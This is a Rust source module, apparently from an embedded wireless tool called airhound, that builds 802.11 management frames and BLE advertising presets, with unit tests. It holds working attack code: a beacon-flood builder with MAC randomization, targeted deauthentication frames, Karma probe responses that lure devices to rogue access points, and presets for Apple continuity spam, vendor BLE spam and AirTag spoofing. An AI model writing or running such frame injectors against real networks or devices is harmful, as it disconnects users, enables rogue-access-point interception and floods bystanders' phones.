//! Frame injector (spec.md §4.9): byte-exact 802.11 management frame
//! builders and BLE advertising parameter presets. The 802.11 byte layout
//! mirrors `scanner.rs`'s `make_beacon_frame` test helper in reverse (encode
//! instead of decode); BLE random-address generation is new, grounded in
//! spec.md's explicit bit-pattern rules since the teacher has no BLE-spam
//! module of its own to imitate.

use heapless::Vec;

use crate::error::{AirhoundError, Result};

pub const MAX_FRAME_LEN: usize = 256;
pub const BEACON_INTERVAL: u16 = 0x0064;
pub const CAPABILITY_INFO: u16 = 0x0411;

fn push_mgmt_header(out: &mut Vec<u8, MAX_FRAME_LEN>, subtype: u8, addr1: [u8; 6], addr2: [u8; 6], addr3: [u8; 6]) -> Result<()> {
    let frame_ctl = (subtype << 4) | (0 << 2); // type=Mgmt(0)
    out.push(frame_ctl).map_err(|_| AirhoundError::ResourceExhausted)?;
    out.push(0x00).map_err(|_| AirhoundError::ResourceExhausted)?; // frame control byte 2
    out.extend_from_slice(&[0x00, 0x00]).map_err(|_| AirhoundError::ResourceExhausted)?; // duration
    out.extend_from_slice(&addr1).map_err(|_| AirhoundError::ResourceExhausted)?;
    out.extend_from_slice(&addr2).map_err(|_| AirhoundError::ResourceExhausted)?;
    out.extend_from_slice(&addr3).map_err(|_| AirhoundError::ResourceExhausted)?;
    out.extend_from_slice(&[0x00, 0x00]).map_err(|_| AirhoundError::ResourceExhausted)?; // seq_ctrl, driver-assigned
    Ok(())
}

fn push_ie(out: &mut Vec<u8, MAX_FRAME_LEN>, id: u8, value: &[u8]) -> Result<()> {
    out.push(id).map_err(|_| AirhoundError::ResourceExhausted)?;
    out.push(value.len() as u8).map_err(|_| AirhoundError::ResourceExhausted)?;
    out.extend_from_slice(value).map_err(|_| AirhoundError::ResourceExhausted)
}

const SUPPORTED_RATES: [u8; 8] = [0x82, 0x84, 0x8B, 0x96, 0x24, 0x30, 0x48, 0x6C];

/// Sets the locally-administered bit (bit 1 of the first octet), per
/// spec.md §4.9's per-frame MAC randomization rule for beacon floods.
pub fn set_locally_administered(mac: &mut [u8; 6]) {
    mac[0] |= 0x02;
    mac[0] &= !0x01; // unicast
}

const BEACON_SUBTYPE: u8 = 0x8;
const DEAUTH_SUBTYPE: u8 = 0xC;
const PROBE_RESP_SUBTYPE: u8 = 0x5;

/// Builds a beacon frame: header, 8-byte zero timestamp, beacon interval
/// `0x0064`, capability info `0x0411`, SSID/rates/DS-parameter IEs.
pub fn broadcast_beacon(ssid: &str, bssid: [u8; 6], channel: u8) -> Result<Vec<u8, MAX_FRAME_LEN>> {
    let mut out = Vec::new();
    push_mgmt_header(&mut out, BEACON_SUBTYPE, [0xFF; 6], bssid, bssid)?;
    out.extend_from_slice(&[0u8; 8]).map_err(|_| AirhoundError::ResourceExhausted)?; // timestamp
    out.extend_from_slice(&BEACON_INTERVAL.to_le_bytes()).map_err(|_| AirhoundError::ResourceExhausted)?;
    out.extend_from_slice(&CAPABILITY_INFO.to_le_bytes()).map_err(|_| AirhoundError::ResourceExhausted)?;
    push_ie(&mut out, 0, ssid.as_bytes())?;
    push_ie(&mut out, 1, &SUPPORTED_RATES)?;
    push_ie(&mut out, 3, &[channel])?;
    Ok(out)
}

/// Builds a deauthentication frame targeting `station_mac` on `bssid`'s
/// network, with reason code 7 (class 3 frame received from nonassociated
/// station) as the fixed body.
pub fn broadcast_deauth(bssid: [u8; 6], _channel: u8, station_mac: [u8; 6]) -> Result<Vec<u8, MAX_FRAME_LEN>> {
    let mut out = Vec::new();
    push_mgmt_header(&mut out, DEAUTH_SUBTYPE, station_mac, bssid, bssid)?;
    const REASON_CODE: u16 = 7;
    out.extend_from_slice(&REASON_CODE.to_le_bytes()).map_err(|_| AirhoundError::ResourceExhausted)?;
    Ok(out)
}

/// Karma response: answers a probe request addressed to `requester` for
/// `ssid` with a crafted probe response, same fixed/IE layout as a beacon.
pub fn karma_probe_response(ssid: &str, bssid: [u8; 6], requester: [u8; 6], channel: u8) -> Result<Vec<u8, MAX_FRAME_LEN>> {
    let mut out = Vec::new();
    push_mgmt_header(&mut out, PROBE_RESP_SUBTYPE, requester, bssid, bssid)?;
    out.extend_from_slice(&[0u8; 8]).map_err(|_| AirhoundError::ResourceExhausted)?;
    out.extend_from_slice(&BEACON_INTERVAL.to_le_bytes()).map_err(|_| AirhoundError::ResourceExhausted)?;
    out.extend_from_slice(&CAPABILITY_INFO.to_le_bytes()).map_err(|_| AirhoundError::ResourceExhausted)?;
    push_ie(&mut out, 0, ssid.as_bytes())?;
    push_ie(&mut out, 1, &SUPPORTED_RATES)?;
    push_ie(&mut out, 3, &[channel])?;
    Ok(out)
}

// ---- BLE advertising ----

pub const MAX_ADV_DATA_LEN: usize = 31;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DiscoverableMode {
    General,
    None,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum OwnAddrType {
    Public,
    RandomStatic,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct AdvParams {
    pub disc_mode: DiscoverableMode,
    pub itvl_min: u16,
    pub itvl_max: u16,
    pub own_addr_type: OwnAddrType,
}

/// Apple-continuity-spam preset: `itvl_min=itvl_max=0xA0` (~100 ms),
/// public address, general discoverable.
pub const APPLE_CONTINUITY_PRESET: AdvParams =
    AdvParams { disc_mode: DiscoverableMode::General, itvl_min: 0xA0, itvl_max: 0xA0, own_addr_type: OwnAddrType::Public };

/// Samsung/Google/Microsoft spam preset: non-discoverable, narrower
/// interval range, random address regenerated every cycle by the caller.
pub const VENDOR_SPAM_PRESET: AdvParams =
    AdvParams { disc_mode: DiscoverableMode::None, itvl_min: 0x20, itvl_max: 0x30, own_addr_type: OwnAddrType::RandomStatic };

pub const APPLE_CONTINUITY_ON_AIR_MS: u64 = 2_000;
pub const APPLE_CONTINUITY_IDLE_MS: u64 = 15;

const MAX_RANDOM_ADDR_RETRIES: u32 = 10;

/// Generates a BLE random address per spec.md §4.9: bits 47:46 set to
/// either `11` (static) or `00` (non-resolvable) with equal probability,
/// rejecting the all-zero/all-one 46-bit random portion. `rng` yields one
/// `u64` of randomness per call; retries up to 10 times before falling
/// back to a deterministic tweak of the last candidate.
pub fn generate_random_address(mut rng: impl FnMut() -> u64) -> [u8; 6] {
    for _ in 0..MAX_RANDOM_ADDR_RETRIES {
        let bits = rng();
        let static_kind = bits & 1 == 0;
        let random46 = (bits >> 1) & 0x3FFF_FFFF_FFFF;
        if random46 == 0 || random46 == 0x3FFF_FFFF_FFFF {
            continue;
        }
        return assemble_address(random46, static_kind);
    }
    // Deterministic fallback: force a single bit on so it's never all-zero
    // or all-one, keeping the top two bits per the chosen kind.
    let bits = rng();
    let static_kind = bits & 1 == 0;
    let random46 = ((bits >> 1) & 0x3FFF_FFFF_FFFF) | 0x1;
    assemble_address(random46, static_kind)
}

fn assemble_address(random46: u64, static_kind: bool) -> [u8; 6] {
    let top_bits: u64 = if static_kind { 0b11 } else { 0b00 };
    let value = (top_bits << 46) | random46;
    let mut addr = [0u8; 6];
    for (i, byte) in addr.iter_mut().enumerate() {
        *byte = ((value >> (i * 8)) & 0xFF) as u8;
    }
    addr
}

/// Truncates manufacturer data by `3 * attempt` bytes, up to 3 attempts,
/// per spec.md §4.9's AirTag-spoofing retry-on-data-set-failure rule.
/// Returns `None` once truncation would erase the whole payload or the
/// attempt count is exhausted.
pub fn truncate_for_retry(adv_data: &[u8], attempt: u32) -> Option<&[u8]> {
    if attempt == 0 || attempt > 3 {
        return None;
    }
    let cut = (3 * attempt) as usize;
    if cut >= adv_data.len() {
        return None;
    }
    Some(&adv_data[..adv_data.len() - cut])
}

/// Cooperative spam-loop lifecycle, per spec.md §5: a `running` flag the
/// loop checks each iteration; `request_stop` sets it and the caller waits
/// up to 500 ms for the loop task to observe it before deleting it.
pub struct SpamLoopControl {
    running: bool,
    packets_sent: u32,
}

pub const SPAM_STOP_WAIT_MS: u64 = 500;
pub const SPAM_STATS_INTERVAL_MS: u64 = 5_000;

impl Default for SpamLoopControl {
    fn default() -> Self {
        Self::new()
    }
}

impl SpamLoopControl {
    pub const fn new() -> Self {
        Self { running: false, packets_sent: 0 }
    }

    pub fn start(&mut self) {
        self.running = true;
        self.packets_sent = 0;
    }

    pub fn request_stop(&mut self) {
        self.running = false;
    }

    pub fn is_running(&self) -> bool {
        self.running
    }

    pub fn record_packet_sent(&mut self) {
        self.packets_sent += 1;
    }

    pub fn packets_sent(&self) -> u32 {
        self.packets_sent
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn beacon_has_byte_exact_interval_and_capability() {
        let frame = broadcast_beacon("TestNet", [0xAA; 6], 6).unwrap();
        // header(24) + timestamp(8) = offset 32 for interval
        assert_eq!(u16::from_le_bytes([frame[32], frame[33]]), BEACON_INTERVAL);
        assert_eq!(u16::from_le_bytes([frame[34], frame[35]]), CAPABILITY_INFO);
        // SSID IE starts at 36
        assert_eq!(frame[36], 0);
        assert_eq!(frame[37], 7);
        assert_eq!(&frame[38..45], b"TestNet");
    }

    #[test]
    fn beacon_addr1_is_broadcast_addr2_addr3_is_bssid() {
        let bssid = [0x11, 0x22, 0x33, 0x44, 0x55, 0x66];
        let frame = broadcast_beacon("X", bssid, 1).unwrap();
        assert_eq!(&frame[4..10], &[0xFF; 6]);
        assert_eq!(&frame[10..16], &bssid);
        assert_eq!(&frame[16..22], &bssid);
    }

    #[test]
    fn deauth_targets_station_with_reason_seven() {
        let bssid = [1; 6];
        let sta = [2; 6];
        let frame = broadcast_deauth(bssid, 6, sta).unwrap();
        assert_eq!(&frame[4..10], &sta); // addr1 = destination = station
        assert_eq!(&frame[10..16], &bssid);
        let reason = u16::from_le_bytes([frame[24], frame[25]]);
        assert_eq!(reason, 7);
    }

    #[test]
    fn karma_response_targets_requester() {
        let bssid = [3; 6];
        let requester = [4; 6];
        let frame = karma_probe_response("Free WiFi", bssid, requester, 11).unwrap();
        assert_eq!(&frame[4..10], &requester);
    }

    #[test]
    fn locally_administered_bit_is_set_and_unicast() {
        let mut mac = [0x00; 6];
        set_locally_administered(&mut mac);
        assert_eq!(mac[0] & 0x02, 0x02);
        assert_eq!(mac[0] & 0x01, 0x00);
    }

    #[test]
    fn random_address_sets_top_bits_and_avoids_sentinels() {
        // static_kind bit=0 (even) -> static; random46 = all-1s first call (rejected), then valid.
        let mut calls = 0u32;
        let addr = generate_random_address(|| {
            calls += 1;
            if calls == 1 {
                (0x3FFF_FFFF_FFFFu64 << 1) | 0 // all-ones random46, static
            } else {
                (0x1234_5678_9ABCu64 << 1) | 0
            }
        });
        assert_eq!(addr[5] & 0xC0, 0xC0); // top two bits = 11 (static)
        assert_ne!(addr, [0u8; 6]);
        assert_ne!(addr, [0xFF; 6]);
    }

    #[test]
    fn random_address_non_resolvable_has_zero_top_bits() {
        let addr = generate_random_address(|| (0x1111_1111_1111u64 << 1) | 1);
        assert_eq!(addr[5] & 0xC0, 0x00);
    }

    #[test]
    fn truncate_for_retry_shrinks_by_three_per_attempt() {
        let data = [0u8; 20];
        assert_eq!(truncate_for_retry(&data, 1).unwrap().len(), 17);
        assert_eq!(truncate_for_retry(&data, 2).unwrap().len(), 14);
        assert_eq!(truncate_for_retry(&data, 3).unwrap().len(), 11);
        assert!(truncate_for_retry(&data, 4).is_none());
        assert!(truncate_for_retry(&data, 0).is_none());
    }

    #[test]
    fn spam_loop_tracks_running_and_packet_count() {
        let mut ctl = SpamLoopControl::new();
        assert!(!ctl.is_running());
        ctl.start();
        assert!(ctl.is_running());
        ctl.record_packet_sent();
        ctl.record_packet_sent();
        assert_eq!(ctl.packets_sent(), 2);
        ctl.request_stop();
        assert!(!ctl.is_running());
    }
}
